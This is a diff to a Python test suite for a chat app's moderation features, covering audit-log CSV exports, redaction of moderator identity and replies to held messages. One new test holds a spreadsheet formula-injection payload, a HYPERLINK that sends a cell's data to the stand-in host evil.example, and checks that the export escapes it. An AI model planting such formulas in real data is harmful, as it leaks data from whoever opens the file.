@@ -418,7 +418,7 @@ def test_audit_log_records_everything_and_exports_csv(ctx, clients, app):
     actions = stored(select(AuditEntry.action).where(AuditEntry.session_id == room.id).order_by(AuditEntry.id))
     assert actions == ["flag", "reject", "warn", "mute", "settings"]
     reasons = stored(select(AuditEntry.reason).where(AuditEntry.session_id == room.id).order_by(AuditEntry.id))
-    assert reasons == ["", "Spam", "Be kind", "Cool down", ""]
+    assert reasons == ["spam", "Spam", "Be kind", "Cool down", ""]
 
     from .test_auth import sign_in
 
@@ -508,4 +508,28 @@ def test_word_list_changes_are_audited(ctx, app):
     sign_in(client, moderator.email)
     assert "audit-term-xyz" in client.get("/moderation/words").get_data(as_text=True)
     exported = client.get("/moderation/words/changes.csv").get_data(as_text=True)
-    assert "word_add" in exported and "audit-term-xyz" in exported and moderator.email in exported
+    assert "word_add" in exported and "audit-term-xyz" in exported
+    assert moderator.email not in exported and f"#{moderator.id}" in exported, "moderators see no identities"
+    admin = app.test_client()
+    sign_in(admin, gen_user("admin").email)
+    assert moderator.email in admin.get("/moderation/words/changes.csv").get_data(as_text=True)
+
+
+def test_audit_csv_cells_never_run_as_formulas(ctx):
+    from dialogue.models import AuditEntry
+
+    room = gen_room(participants=1)
+    entry = AuditEntry(session_id=room.id, actor_id=None, action="warn", target_type="member",
+                       target_id="1", reason='=HYPERLINK("https://evil.example/?"&B2,"click")')
+    rows = list(csv.reader(io.StringIO(moderation.audit_csv(room.session, [entry]))))
+    assert rows[1][5].startswith("'=HYPERLINK")
+
+
+def test_replies_cannot_point_at_a_held_message(ctx, clients):
+    room = gen_room(participants=2)
+    settings(room, moderation="pre")
+    author, _ = joined(clients, room.participants[0], room.id)
+    held = send(author, room.id, "held")["message"]
+    settings(room, moderation="post")
+    answer = send(author, room.id, "replying to my held message", reply_to=held["id"])
+    assert answer["error"]["code"] == "not_found"
